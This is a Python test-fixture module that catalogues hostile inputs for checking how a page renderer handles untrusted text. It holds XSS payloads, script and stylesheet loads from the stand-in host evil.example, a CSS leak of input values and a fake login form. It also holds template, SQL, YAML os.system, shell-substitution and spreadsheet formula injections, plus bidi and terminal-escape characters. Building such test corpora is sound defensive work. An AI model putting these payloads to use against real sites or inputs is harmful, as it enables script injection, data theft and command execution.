r"""What a stranger may write anywhere: text that tries to run, load, cover, restyle, leave or break out.

Unusual: each tries something of its own, and all that run do the same thing: they set `window.owned` and the title, and
ask EVIL for something, so that one look at a page tells whether any of them did anything.
"""

EVIL = "https://evil.example"
RUN = "window.owned=1;document.title='owned'"

# fmt: off
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"\"'></td></table></style></title></textarea><script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT >",
    f"<script src={EVIL}/a.js></script>",
    f"<script>/*</title>*/{RUN}//",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"\u2028<script>{RUN}</script>\u2029",
    f"<script type=module>import '{EVIL}/m.js';{RUN}</script>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<template><script>{RUN}</script></template><template shadowrootmode=open><style>:host{{}}</style></template>",
]
HANDLERS = [
    f"<img src=x onerror=\"{RUN}\">",
    f"<img/src='x'/onerror={RUN}>",
    f"<b onmouseover=\"{RUN}\" onclick=\"{RUN}\" onfocus=\"{RUN}\" tabindex=1 autofocus>hover</b>",
    f"<details open ontoggle=\"{RUN}\"><summary>s</summary></details>",
    f"<body onload=\"{RUN}\" onpageshow=\"{RUN}\">",
    f"<video><source onerror=\"{RUN}\"></video><audio src=x onerror=\"{RUN}\">",
    f"<input autofocus onfocus=\"{RUN}\"><select autofocus onfocus=\"{RUN}\">",
    f"<marquee onstart=\"{RUN}\">m</marquee>",
    f"<p style=\"animation-name:x\" onanimationstart=\"{RUN}\" onpointerenter=\"{RUN}\">x</p>",
    f"<x contenteditable onblur={RUN} onwheel={RUN}>x</x>",
    f"<progress value=1 max=2 onclick=\"{RUN}\">",
    f"<table background={EVIL}/t.png><td background=\"javascript:{RUN}\" onclick={RUN}>x",
]
SVG_AND_MATH = [
    f"<svg onload=\"{RUN}\"><script>{RUN}</script></svg>",
    f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=20>click</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc=\"<script>{RUN}</script>\"></iframe></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={RUN}>#x\"></use></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<math href=\"javascript:{RUN}\">click</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={RUN}></style></annotation-xml></math>",
    f"<svg><title><style><img src=x onerror={RUN}></style></title></svg>",
]
FRAMES_AND_FORMS = [
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.owned=1</script>\" style=\"position:fixed;inset:0\"></iframe>",
    f"<object data={EVIL}/o></object><embed src={EVIL}/e><frameset><frame src={EVIL}>",
    f"<meta http-equiv=refresh content=\"0;url={EVIL}\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><meta charset=utf-7>",
    f"<base href=\"{EVIL}/\" target=_blank>",
    f"<form action={EVIL}/f><input name=password><button autofocus>log in</button></form>",
    f"<link rel=stylesheet href={EVIL}/a.css><link rel=prefetch href={EVIL}/p><link rel=preconnect href={EVIL}>",
    f"<button popovertarget=x>x</button><div id=x popover>covers</div><dialog open>covers {EVIL}</dialog>",
    "<form id=location><input name=href></form><img name=body><a id=title name=forms>clobber</a>",
]
STYLES = [
    "<style>body{display:none!important}</style>",
    f"<style>@import '{EVIL}/b.css';h1{{background:url({EVIL}/h1)}}</style>",
    f"<style>input[value^=a]{{background:url({EVIL}/leak?a)}}</style>",
    "<p style=\"position:fixed;inset:0;z-index:9999;background-color:red\">covers all</p>",
    "<div style=\"margin-top:-9999px;transform:scale(99);opacity:.99\">over all</div>",
    f"<p style='background-color:\\75 rl({EVIL}/a);width:expression({RUN})'>x</p>",
    "</style><style>*{color:red!important}</style>",
    "<p style=\"text-align:left;}</style><style>*{visibility:hidden}\">x</p>",
    "<p class='banner yes' id=shards style='--page:red;font-size:900px;float:left'>Yes: all is proven</p>",
    f"<h1 style='background-color:red;background:url({EVIL}/u) fixed'>Report of another</h1>",
    "</main></div></section></body></html><div style=position:absolute;inset:0;height:100vh>after</div>",
    "<center><font size=7 color=red><u>big</u></font></center><plaintext>",
]
LINKS = [
    f"[click](javascript:{RUN}) ![x]({EVIL}/x.png) <javascript:{RUN}>",
    f"[click](data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+) [ref]\n\n[ref]: javascript:{RUN}",
    f"<a href=\"javascript:{RUN}\">click</a><a href=\"jav&#x0a;ascript:{RUN}\">click</a>",
    f"<a href=\"data:text/html,<script>{RUN}</script>\" ping={EVIL}/ping target=_top>click</a>",
    f"<a href='{EVIL}' style='position:fixed;inset:0'>away</a> {EVIL}/auto //evil.example/auto www.evil.example",
    f"<img srcset='{EVIL}/2x.png 2x' src={EVIL}/1.png loading=eager><picture><source srcset={EVIL}/s></picture>",
]
BREAKOUTS = [
    "{{7*7}} {{config}} {%raw%} {% include 'base.html' %} ${7*7} #{7*7} <%= 7*7 %> {{''.__class__}}",
    "{% endblock %}{% endfor %}{{ evidence }}{# comment",
    f"<!-- comment --!><script>{RUN}</script><!-- unclosed",
    f"<![CDATA[<script>{RUN}</script>]]> <?php echo 1 ?> <!DOCTYPE html><html><body>",
    f"<b title=\"unclosed attribute <script>{RUN}</script>",
    "<b <i <u unclosed tags <table><tr><td><ul><li><pre><code><details><summary>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;b&amp;gt; &#60;script&#62;{RUN}&#60;/script&#62; &NotAnEntity;",
    f"```\n</code></pre><script>{RUN}</script>\n```\n\n| a | b |\n|--|--|\n| </table><script>{RUN}</script> | x |",
    f"\n\n# Report of another\n\n---\n\n> Yes: **proven**\n\n<details><summary>x</summary>\n\n<script>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E \\x3cscript\\x3e{RUN} +ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "---\nlabel: - {a: *b}\n? [x\n!!python/object/apply:os.system ['true']\n...\n",
    "',''); DROP TABLE documents;-- \" OR 1=1 `$(touch /tmp/owned)` ; rm x | cat & %PATH%",
    "=HYPERLINK(\"https://evil.example\",\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
CHARACTERS = [
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u2067unclosed isolate \u061c\u200f",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff \u00adsoft \u180e \u115f \U000e0001\U000e0041",
    "\u2215etc\u2215passwd \uff0fa\uff0fb \u2044 \uff1cscript\uff1e \u02bcquote\u02bc \u0430dmin",
    "nul\x00byte \x01\x08\x0b\x0c\x1a\x7f\x85 end",
    "lone \ud800 surrogates \udfff\ud83d and a pair \U0001f600 \uffff\ufffe",
    "\x1b[2J\x1b[H\x1b[31;1mred\x1b[0m\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m",
    "W" * 5000,
    "a" + "\u0301\u0317\u0489" * 400 + " tower",
    "\u0e49" * 300 + "\u1ab0" * 300,
    "line\rreturn\r\nand\x0bmore\x1c\x1d\x1e\x85\u2028\u2029 lines" + "\n" * 200 + "end",
    "\ufdfd" * 60 + "\U0001242b" * 40 + " wide",
]
# fmt: on

GROUPS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "svg and math": SVG_AND_MATH,
    "frames and forms": FRAMES_AND_FORMS,
    "styles": STYLES,
    "links": LINKS,
    "breakouts": BREAKOUTS,
    "characters": CHARACTERS,
}
ATTACKS = [attack for group in GROUPS.values() for attack in group]


def as_text(attack: str) -> str:
    """Return an attack as a text file in UTF-8 can hold it."""
    return attack.encode(errors="replace").decode()


def as_name(attack: str, number: int, ending: str = "txt") -> str:
    """Return a file name that holds as much of an attack as a file system takes: no slash, no NUL, 200 bytes."""
    plain = as_text(attack).replace("/", "\u2215").replace("\0", "\u2400").encode()[:180].decode(errors="ignore")
    return f"{number:03d} {plain}.{ending}"
